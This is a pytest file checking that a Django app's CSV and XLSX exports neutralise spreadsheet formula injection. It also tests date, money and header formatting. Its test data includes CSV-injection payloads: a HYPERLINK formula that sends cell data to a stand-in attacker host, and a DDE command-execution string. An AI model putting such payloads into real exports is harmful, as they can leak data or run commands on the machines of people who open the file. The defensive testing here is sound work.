"""Exports never hand a spreadsheet a live formula (issue 13 item 1, OWASP CSV injection)."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from core.exports import ExportColumn, export_response, neutralise_formula

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
COLUMNS = [ExportColumn("name", lambda r: r["name"]), ExportColumn("amount", lambda r: r["amount"])]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_evaluate_gets_a_quote_prefix(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["Ahmed Al Mansoori", "أحمد", "", "DXB-A-10001", "a=b"])
def test_ordinary_text_is_unchanged(text):
    assert neutralise_formula(text) == text


def _csv(rows):
    response = export_response(rows, COLUMNS, "customers", "csv")
    return b"".join(response.streaming_content).decode("utf-8-sig")


def test_the_csv_export_neutralises_hostile_names_and_keeps_numbers():
    text = _csv([{"name": HOSTILE[0], "amount": -5}, {"name": HOSTILE[1], "amount": 3}])
    lines = text.splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[1].endswith(",-5")  # a negative number stays a number
    assert lines[2].startswith("'+cmd")


def test_the_xlsx_export_writes_hostile_names_as_text_never_as_formulas():
    rows = [{"name": text, "amount": 1} for text in HOSTILE]
    response = export_response(rows, COLUMNS, "customers", "xlsx")
    raw = response.content
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(raw)).active
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    types = {row[0].data_type for row in sheet.iter_rows(min_row=2)}
    assert types == {"s"}
    # The text itself is kept; the quote prefix is a cell style Excel does not display.
    assert names[0] == HOSTILE[0]
    assert all(row[0].quotePrefix for row in sheet.iter_rows(min_row=2))


def test_exports_show_local_times_amounts_and_a_frozen_filtered_header(settings):
    from datetime import UTC, datetime
    from decimal import Decimal

    from django.utils import timezone

    columns = [
        ExportColumn("When", lambda r: r[0], "datetime"),
        ExportColumn("Amount", lambda r: r[1], "money"),
        ExportColumn("Status", lambda r: r[2]),
    ]
    rows = [(datetime(2026, 11, 30, 8, 5, 59, 123, tzinfo=UTC), Decimal("1050.5"), "Pending approval")]
    with timezone.override("Asia/Dubai"):
        text = b"".join(export_response(rows, columns, "x", "csv").streaming_content).decode("utf-8-sig")
        raw = export_response(rows, columns, "x", "xlsx").content
    assert (
        text.splitlines()[1] == "30/11/2026 12:05,1050.50,Pending approval"
    )  # UTC+4, to the minute, one format
    sheet = load_workbook(io.BytesIO(raw)).active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C2"
    when, amount, status = next(sheet.iter_rows(min_row=2))
    assert when.value == datetime(2026, 11, 30, 12, 5, 59)
    assert when.number_format == "dd/mm/yyyy hh:mm"
    assert amount.value == 1050.5 and amount.number_format == "#,##0.00"
    assert sheet["A1"].font.bold
